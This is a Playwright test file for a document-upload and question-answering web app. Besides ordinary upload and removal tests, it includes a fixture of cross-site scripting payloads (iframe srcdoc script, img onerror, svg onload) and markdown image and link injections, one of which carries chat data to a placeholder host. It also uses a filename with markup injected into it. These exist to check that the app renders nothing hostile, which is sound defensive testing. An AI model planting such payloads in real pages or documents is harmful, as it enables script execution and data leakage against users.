@@ -1,0 +1,101 @@
+"""Uploading, looking at and removing documents in a real browser."""
+
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import FilePayload, expect
+
+from tests.pages.running_app import Reader
+
+pytestmark = [pytest.mark.browser, pytest.mark.model, pytest.mark.timeout(300)]
+
+PARKING = b"""# Parking policy
+
+Staff may park in the yard from 6:00 to 22:00. Bicycles are not allowed in the lift.
+Visitors park for free for 3 hours.
+"""
+HOSTILE = b"""Badge policy
+
+Bring <iframe srcdoc='<script>parent.pwned=1</script>'></iframe> a zebra badge to the gate.
+The zebra badge <img src=x onerror="alert(1);pwned=1"> costs 7 EUR <svg/onload=alert(2)> a year.
+Done ![a](https://pictures.invalid/p?d=chat) with the zebra badge [x](https://links.invalid/r).
+Ask $x^2$ :red[now] at https://links.invalid for the zebra badge **today**.
+"""
+
+
+def file(name: str, content: bytes) -> FilePayload:
+    return {"name": name, "mimeType": "application/octet-stream", "buffer": content}
+
+
+def upload(reader: Reader, *files: FilePayload) -> None:
+    reader.go("/documents")
+    reader.page.locator('input[type="file"]').set_input_files(list(files))
+    reader.page.get_by_text(files[-1]["name"]).first.wait_for()
+    reader.page.get_by_role("button", name="Add", exact=True).click()
+    reader.page.locator('[data-testid="stAlert"]').nth(len(files) - 1).wait_for()
+    reader.settle()
+
+
+def choose_first_row(reader: Reader) -> None:
+    table = reader.page.get_by_test_id("stDataFrame").first
+    table.click(position={"x": 16, "y": 52})
+    reader.page.get_by_role("button", name="Remove…").wait_for()
+
+
+def test_a_policy_is_uploaded_with_progress_listed_asked_about_and_removed(reader: Reader) -> None:
+    reader.go("/documents")
+    reader.page.locator('input[type="file"]').set_input_files(
+        [file("parking.md", PARKING), file("tool.exe", b"MZ\x90\x00")]
+    )
+    reader.page.get_by_text("tool.exe").first.wait_for()
+    progress = reader.page.get_by_test_id("stProgress")
+    reader.page.get_by_role("button", name="Add", exact=True).click()
+    progress.first.wait_for(state="attached")
+    alerts = reader.page.get_by_test_id("stAlert")
+    expect(alerts).to_have_count(2)
+    outcomes = alerts.all_inner_texts()
+    choose_first_row(reader)
+    details = reader.page.locator(".st-key-document-details").inner_text()
+
+    answer = reader.ask("How long may visitors park for free?").inner_text()
+    reader.go("/documents")
+    choose_first_row(reader)
+    reader.page.get_by_role("button", name="Remove…").click()
+    dialog = reader.page.get_by_role("dialog")
+    expect(dialog).to_contain_text("1 delivered answer cites it.")
+    dialog.get_by_role("button", name="Remove").click()
+    expect(dialog).to_have_count(0)
+    after = reader.ask("How long may visitors park for free?").inner_text()
+
+    assert "added as" in outcomes[0]
+    assert "not added" in outcomes[1]
+    assert "Parking policy" in details
+    assert "Visitors park for free for 3 hours." in answer
+    assert "Visitors park for free for 3 hours." not in after
+
+
+def test_the_same_file_twice_says_of_what_it_is_a_duplicate(reader: Reader) -> None:
+    for _ in range(2):
+        upload(reader, file("lockers.txt", b"Lockers are emptied every Friday at 17:00."))
+
+    expect(reader.page.get_by_test_id("stAlert")).to_contain_text("already")
+
+
+def test_hostile_text_runs_nowhere_and_fetches_nothing(reader: Reader, pictures: Path) -> None:
+    upload(reader, file("badge ![x](https://names.invalid/n.png) <img src=x>.txt", HOSTILE))
+    choose_first_row(reader)
+    reader.page.screenshot(path=pictures / "hostile-document.png")
+    tags = reader.page.locator('iframe[srcdoc], svg[onload], img[src="x"], img[src*="invalid"]')
+    in_documents = tags.count()
+
+    answer = reader.ask("What about the zebra badge ![q](https://questions.invalid/q.png)?")
+    reader.page.screenshot(path=pictures / "hostile-answer.png")
+    in_answer = tags.count()
+    answer.locator(".sentence").first.click()
+    reader.page.get_by_role("dialog").locator("mark").first.wait_for()
+    in_evidence = tags.count()
+    links = reader.page.locator('a[href*="invalid"]').count()
+
+    assert "zebra badge" in answer.inner_text()
+    assert (in_documents, in_answer, in_evidence, links) == (0, 0, 0, 0)
+    assert reader.page.evaluate("window.pwned") is None
